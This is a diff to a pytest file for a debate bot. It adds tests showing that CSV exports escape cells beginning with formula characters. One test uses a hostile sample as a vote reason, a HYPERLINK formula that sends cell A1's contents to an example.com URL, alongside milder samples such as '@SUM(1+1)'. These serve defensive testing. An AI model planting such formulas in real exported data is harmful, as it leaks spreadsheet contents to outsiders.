@@ -9,6 +9,7 @@ from datetime import UTC, datetime
 import pytest
 
 from core.debates import DebateRepo, Format, build_spec, export_csv, forget_member, render_results
+from core.spreadsheet import safe_cell
 
 T0 = datetime(2026, 3, 1, 12, 0, tzinfo=UTC)
 
@@ -57,3 +58,25 @@ async def test_the_chart_is_a_png(store, format):
     if format is Format.OXFORD:
         debate = await repo.advance(1, debate.id)
     assert render_results(await repo.results(debate)).startswith(b"\x89PNG\r\n\x1a\n")
+
+
+async def test_exported_reasons_and_options_cannot_run_as_spreadsheet_formulas(store):
+    repo = DebateRepo(store)
+    spec = build_spec(motion="Adopt the platform", format=Format.PROPOSAL)
+    debate = await repo.start(spec, guild_id=1, channel_id=2, author_id=3, now=T0)
+    formula = '=HYPERLINK("https://example.com/x?d="&A1, "details")'
+    await repo.vote(1, debate.id, member_id=5, member_roles=set(), choices=(2,), reason=formula, now=T0)
+    await repo.vote(1, debate.id, member_id=6, member_roles=set(), choices=(0,), reason="@SUM(1+1)", now=T0)
+    rows = _rows(export_csv(debate, await repo.votes(debate), await repo.results(debate)))
+    assert [row[3] for row in rows[1:]] == ["'" + formula, "'@SUM(1+1)"]
+    poll = await repo.start(build_spec(motion="Which", format=Format.POLL, options="-1 | +1", secret=True),
+                            guild_id=1, channel_id=2, author_id=3, now=T0)
+    rows = _rows(export_csv(poll, [], await repo.results(poll)))
+    assert [row[1] for row in rows[1:]] == ["'-1", "'+1"]
+
+
+@pytest.mark.parametrize(("value", "cell"), [
+    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\tx", "'\tx"), ("\rx", "'\rx"),
+    ("plain", "plain"), ("a=b", "a=b"), ("", ""), (-1, -1), (3, 3)])
+def test_spreadsheet_cells_escape_only_formula_starts(value, cell):
+    assert safe_cell(value) == cell
